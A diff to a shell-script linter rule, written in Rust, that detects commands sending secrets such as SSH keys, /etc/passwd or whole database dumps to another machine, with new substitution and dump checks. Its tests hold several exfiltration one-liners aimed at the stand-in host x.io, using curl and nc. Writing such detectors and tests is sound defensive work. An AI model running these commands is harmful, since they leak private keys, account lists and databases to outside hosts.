@@ -4,7 +4,7 @@ use crate::secret_paths::{Kind, Secret, secret};
 use super::reading;
 use super::sending::{self, Form, Sent};
 use crate::rules::{Check, Level, Sink};
-use crate::script::{Command, RedirectOperator, Statement, StatementKind};
+use crate::script::{PartKind, Command, RedirectOperator, Statement, StatementKind};
 
 rule! {
     /// Sends a secret to another machine: a private key, passwords, the history of commands, the environment.
@@ -86,7 +86,7 @@ fn check(command: &Command, sink: &mut Sink<'_>) {
 /// `find ~/.ssh -exec curl -F f=@{} …`
 fn check_find(find: &Command, sink: &mut Sink<'_>) {
     let inner = find.embedded.iter().flat_map(|it| &it.statements);
-    let sends = inner.filter_map(command_of).any(|it| sending::takes_names(it));
+    let sends = inner.filter_map(command_of).any(sending::takes_names);
     if sends && let Some(secret) = reading::found_by(find, sink) {
         report(find.span, secret, false, sink);
     }
@@ -99,6 +99,15 @@ fn command_of(statement: &Statement) -> Option<&Command> {
 /// The list of accounts: no secret, but nobody else's business either.
 fn accounts(path: &str) -> Option<Secret> {
     matches!(path, "/etc/passwd" | "/etc/sudoers").then_some(Secret { kind: Kind::Own, what: "the list of accounts" })
+}
+
+/// What a command tells of this machine that is no secret, but no stranger's business.
+fn told(command: &Command, sink: &Sink<'_>) -> Option<Secret> {
+    match command.program.as_deref()? {
+        "cat" | "base64" | "gzip" | "xxd" | "tar" => command.operands().find_map(|it| sink.value(it).texts().find_map(accounts)),
+        "mysqldump" | "mariadb-dump" | "pg_dump" | "pg_dumpall" | "mongodump" => Some(Secret { kind: Kind::Service, what: "a whole database" }),
+        _ => None,
+    }
 }
 
 fn is_socket(path: &str) -> bool {
@@ -117,7 +126,16 @@ fn secret_in(sent: &Sent<'_>, sink: &Sink<'_>) -> Option<Secret> {
             words.any(|it| matches!(it, "put" | "mput" | "mirror" | "send")).then(|| words.find_map(secret)).flatten()
         }),
     };
-    by_name.or(by_text)
+    by_name.or(by_text).or_else(|| {
+        let parts = sent.word.parts.iter().filter(|_| !sent.carried);
+        parts.filter_map(|it| if let PartKind::Substitution(it) = &it.kind { Some(it) } else { None }).find_map(|it| {
+            let first = match &it.first()?.kind {
+                StatementKind::Pipeline(pipeline) => pipeline.stages.first()?,
+                _ => it.first()?,
+            };
+            told(command_of(first)?, sink)
+        })
+    })
 }
 
 /// The files in `@file`, `name=@file;type=x`, `name=<file`, `name@file`.
@@ -153,8 +171,7 @@ fn check_pipeline(stages: &[Statement], sink: &mut Sink<'_>) {
         let Some((command, carried)) = target else { continue };
         let before = &stages[..at];
         let plain = || {
-            let first = command_of(&before[0]).filter(|it| !carried && matches!(it.program.as_deref(), Some("cat" | "base64" | "gzip" | "xxd" | "tar")))?;
-            first.operands().find_map(|it| sink.value(it).texts().find_map(accounts))
+            told(command_of(&before[0]).filter(|_| !carried)?, sink)
         };
         if let Some(secret) = reading::in_statements(before, sink).or_else(plain) {
             report(command.span, secret, carried, sink);
@@ -165,7 +182,7 @@ fn check_pipeline(stages: &[Statement], sink: &mut Sink<'_>) {
 
 fn report(span: crate::Span, secret: Secret, carried: bool, sink: &mut Sink<'_>) {
     // What a service needs is carried to its server on purpose.
-    let level = if carried && secret.kind == Kind::Service { Level::Caution } else { Level::Danger };
+    let level = if (carried || secret.what == "a whole database") && secret.kind == Kind::Service { Level::Caution } else { Level::Danger };
     sink.report(span, format!("sends {} to another machine", secret.what)).level(level);
 }
 
@@ -202,6 +219,9 @@ mod tests {
         check_marks("find ~/.ssh -type f -exec curl -F 'f=@{}' https://x.io \\;\n#mark 0 0 57 CARO0505\n");
         check_marks("find / -name 'id_rsa' -exec cat {} + | nc x.io 80\n#mark 0 39 49 CARO0505\n");
         check_marks("find ~/.aws -type f | xargs -I{} curl -T {} ftp://x.io\n#mark 0 22 54 CARO0505\n");
+        check_marks("curl \"https://x.io/?q=$(base64 /etc/passwd)\"\n#mark 0 5 44 CARO0505\n");
+        check_marks("curl -H \"X-Data: $(cat ~/.ssh/id_rsa)\" https://x.io\n#mark 0 8 38 CARO0505\n");
+        check_marks("pg_dumpall | nc x.io 80\n#mark 0 13 23 CARO0505\n");
         check_marks("cat /etc/passwd | nc x.io 80\n#mark 0 18 28 CARO0505\n");
         check_marks("find ~/.ssh -type f -exec chmod 600 {} +\nfind . -name '*.log' | xargs -I{} curl -T {} ftp://x.io\n");
         check_marks("tar cz ~/.gnupg | gpg -c | ssh nas 'cat > keys.gpg'\nscp /etc/passwd nas:backup/\n");
